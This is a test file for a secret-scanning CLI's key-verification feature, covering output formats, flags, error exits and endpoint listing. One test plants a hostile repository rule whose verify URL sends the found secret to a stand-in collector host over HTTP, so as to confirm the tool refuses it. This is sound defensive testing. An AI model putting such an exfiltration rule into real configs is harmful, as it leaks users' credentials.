// The CLI side of verification: --verify on a scan (via the test override), the outcome, time checked and extracted
// fields in text and JSON, --only-verified, --fail-on, flag errors (exit 2), `verify --list-endpoints`, and the
// built binary exiting promptly after verifying (no socket left open).
import { execFile } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { run } from "../../src/cli/run.js";
import { loadRules } from "../../src/engine/load-rules.js";
import { fixture, reply, secretFrom, startServer, type TestServer } from "./helpers.js";

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "..", "..");
const live = secretFrom("key-{alnum:96}", "cli-live");
const dead = secretFrom("key-{alnum:96}", "cli-dead");
let dir: string;
let server: TestServer;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "keyscan-verify-cli-"));
  writeFileSync(join(dir, "live.env"), `GETIMG_API_KEY=${live}\n`);
  writeFileSync(join(dir, "dead.js"), `const key = "${dead}";\n`);
  server = await startServer((req, res) => reply(res, fixture("getimg", req.headers.authorization === `Bearer ${live}` ? "valid" : "invalid")));
});
afterAll(async () => {
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});
afterEach(() => {
  server.requests.length = 0;
});

const keyscan = (args: string[], env: NodeJS.ProcessEnv = {}) => run(args, { cwd: dir, env });
const override = () => ["--verify-endpoint-override", `getimg=${server.base}`];

interface Report {
  findings: { path: string; verification?: { status: string; checkedAt: string; fields?: Record<string, unknown>; endpoint?: string } }[];
}

describe("scan --verify", () => {
  it("text output shows the outcome, the time checked and the extracted fields; stderr the override and a summary", async () => {
    const r = await keyscan([".", "--verify", ...override()]);
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toMatch(/verify: VERIFIED LIVE {2}\{"balance":"12\.50","currency":"USD"\} {2}checked \d{4}-\d\d-\d\dT/);
    expect(r.stdout).toMatch(/verify: invalid {2}checked /);
    expect(r.stderr).toMatch(/WARNING: TEST OVERRIDE ACTIVE: getimg verification goes to http:\/\/127\.0\.0\.1:\d+, with the HTTPS, declared-host and private-address checks OFF/);
    expect(r.stderr).toMatch(/verified 2 findings \(2 distinct, 2 requests, [\d.]+ s\): 1 live, 1 invalid, 0 unknown/);
    expect(r.stdout + r.stderr).not.toContain(live);
    expect(r.stdout + r.stderr).not.toContain(dead);
    expect(server.requests).toHaveLength(2);
  });

  it("JSON output carries status, checkedAt, fields and the endpoint", async () => {
    const r = await keyscan([".", "--verify", "--format", "json", ...override()]);
    const report = JSON.parse(r.stdout) as Report;
    const byPath = Object.fromEntries(report.findings.map((f) => [f.path, f.verification!]));
    expect(byPath["live.env"]).toMatchObject({ status: "verified", fields: { balance: "12.50", currency: "USD" }, endpoint: "GET https://api.getimg.ai/v2/billing/balance", httpStatus: 200 });
    expect(byPath["dead.js"]).toMatchObject({ status: "invalid", httpStatus: 401 });
    expect(new Date(byPath["live.env"]!.checkedAt).toISOString()).toBe(byPath["live.env"]!.checkedAt);
  });

  it("issue 19: KEYSCAN_VERIFY_ENDPOINT_OVERRIDE in the environment turns nothing off (only the flag does)", async () => {
    const before = server.requests.length;
    const r = await keyscan([".", "--verify", "--verify-timeout", "1s", "--verify-retries", "0", "--format", "json"], { KEYSCAN_VERIFY_ENDPOINT_OVERRIDE: `getimg=${server.base}` });
    expect(r.stderr).not.toMatch(/TEST OVERRIDE ACTIVE/);
    expect(server.requests.length).toBe(before);
    expect((JSON.parse(r.stdout) as Report).findings.map((f) => f.verification?.status)).not.toContain("verified");
  });

  it("--only-verified reports only live keys", async () => {
    const r = await keyscan([".", "--verify", "--only-verified", "--format", "json", ...override()]);
    const report = JSON.parse(r.stdout) as Report;
    expect(report.findings.map((f) => f.path)).toEqual(["live.env"]);
    expect(r.exitCode).toBe(1);
  });

  it("--fail-on verified: exit 1 only when a key is live", async () => {
    expect((await keyscan(["dead.js", "--verify", "--fail-on", "verified", ...override()])).exitCode).toBe(0);
    expect((await keyscan(["dead.js", "--verify", ...override()])).exitCode).toBe(1); // default: any finding
    expect((await keyscan([".", "--verify", "--fail-on", "verified", ...override()])).exitCode).toBe(1);
  });

  it("a provider that cannot be reached leaves the scan intact: findings reported as unknown, exit 1", async () => {
    const r = await keyscan([".", "--verify", "--format", "json", "--verify-retries", "0", "--verify-endpoint-override", "getimg=http://127.0.0.1:1"]);
    expect(r.exitCode).toBe(1);
    const report = JSON.parse(r.stdout) as Report;
    expect(report.findings).toHaveLength(2);
    expect(report.findings.every((f) => f.verification?.status === "unknown")).toBe(true);
  });

  it("without --verify nothing is sent and findings carry no verification", async () => {
    const r = await keyscan([".", "--format", "json", ...override()]);
    expect((JSON.parse(r.stdout) as Report).findings.every((f) => f.verification === undefined)).toBe(true);
    expect(server.requests).toHaveLength(0);
    expect(r.stderr).toBe("");
  });

  it.each([
    [["--only-verified"], /--only-verified needs --verify/],
    [["--fail-on", "verified"], /--fail-on verified needs --verify/],
    [["--verify", "--verify-rate", "fast"], /--verify-rate fast: expected N or PROVIDER=N/],
    [["--verify", "--verify-rate", "nosuch=3"], /--verify-rate: unknown provider `nosuch`/],
    [["--verify", "--verify-endpoint-override", "getimg"], /expected PROVIDER=BASE_URL/],
    [["--verify", "--verify-endpoint-override", "getimg=ftp://x"], /expected PROVIDER=BASE_URL/],
    [["--verify", "--verify-timeout", "soon"], /--verify-timeout soon: expected a duration/],
    [["--verify", "--verify-retries", "99"], /--verify-retries 99/],
  ])("bad flags exit 2 before scanning: %j", async (args, why) => {
    const r = await keyscan([".", ...args]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(why);
    expect(server.requests).toHaveLength(0);
  });
});

describe("keyscan verify --list-endpoints", () => {
  it("prints every method and URL keyscan may call", async () => {
    const r = await keyscan(["verify", "--list-endpoints"]);
    expect(r.exitCode).toBe(0);
    const lines = r.stdout.trim().split("\n").filter((l) => !l.startsWith("#"));
    // The seed providers' endpoints, among those of every shipped rule that declares a verify request, beside the
    // access requests of verifying rules and the revoke requests (issue 22).
    const shipped = loadRules().rules;
    const withVerify =
      shipped.filter((rule) => rule.verify !== undefined).length +
      shipped.reduce((n, rule) => n + (rule.verify ? (rule.access?.requests?.length ?? 0) : 0), 0) +
      shipped.filter((rule) => rule.revokeRequest !== undefined).length;
    expect(lines).toHaveLength(withVerify);
    expect(lines.map((l) => l.split(/\s+/).slice(0, 2).join(" "))).toEqual(
      expect.arrayContaining([
        "GET https://alttext.ai/api/v1/account",
        "GET https://api.all-images.ai/v1/api-keys/check",
        "GET https://api.autoenhance.ai/v3/orders/?per_page=1",
        "GET https://api.claid.ai/v1/storage/storage-types",
        "GET https://api.getimg.ai/v2/billing/balance",
        "POST https://autoalt.app/api/v1/verify-api-key",
      ]),
    );
    const json = JSON.parse((await keyscan(["verify", "--list-endpoints", "--format", "json"])).stdout) as { endpoints: { refused?: string }[] };
    expect(json.endpoints).toHaveLength(withVerify);
    expect(json.endpoints.every((e) => e.refused === undefined)).toBe(true);
  });

  it("lists refused endpoints as refused (repo-config rules, plain HTTP)", async () => {
    const sub = mkdtempSync(join(tmpdir(), "keyscan-list-"));
    try {
      writeFileSync(
        join(sub, "evil.yaml"),
        "provider: evil\nname: E\nhosts: [collector.example.net]\nrules:\n  - id: evil.k\n    name: K\n    description: D\n    severity: high\n    secret: { pattern: 'ev_[A-Za-z0-9]{20}', keywords: [ev_], standalone: true }\n    verify:\n      request: { method: GET, url: 'http://collector.example.net/c?k={{secret}}' }\n      verified: { status: [200] }\n    examples: ['ev_aB3dE5gH7jK9mN1pQ3sT']\n    negatives: ['ev_']\n",
      );
      writeFileSync(join(sub, ".keyscan.yaml"), "rules: [evil.yaml]\n");
      const r = await run(["verify", "--list-endpoints"], { cwd: sub, env: {} });
      expect(r.stdout).toMatch(/# refused: GET http:\/\/collector\.example\.net\/c\?k=\{\{secret\}\} {3}# evil\.k: the rule comes from the scanned repository's own config/);
      const allowed = await run(["verify", "--list-endpoints", "--allow-repo-rules-verify"], { cwd: sub, env: {} });
      expect(allowed.stdout).toMatch(/# refused: .*evil\.k: http:\/\/collector\.example\.net is not HTTPS/);
    } finally {
      rmSync(sub, { recursive: true, force: true });
    }
  });
});

describe("the built binary", () => {
  it("verifies end to end as a real process and exits", async () => {
    // Asynchronous spawn: the stand-in server lives in this process and must keep answering.
    // It exits by itself: a process still running after 45 s is killed, and a killed process has no exit code. Not a
    // timed assertion (it takes ~2-4 s, more on a loaded machine): only a hang fails it.
    const bin = join(ROOT, "dist", "cli", "bin.js");
    const p = await new Promise<{ code: number | null; stdout: string }>((done) => {
      const child = execFile(process.execPath, [bin, ".", "--verify", "--no-color", ...override()], { cwd: dir, encoding: "utf8", timeout: 45_000 }, (_err, stdout) =>
        done({ code: child.exitCode, stdout }),
      );
    });
    expect(p.code).toBe(1);
    expect(p.stdout).toContain("VERIFIED LIVE");
  });
});
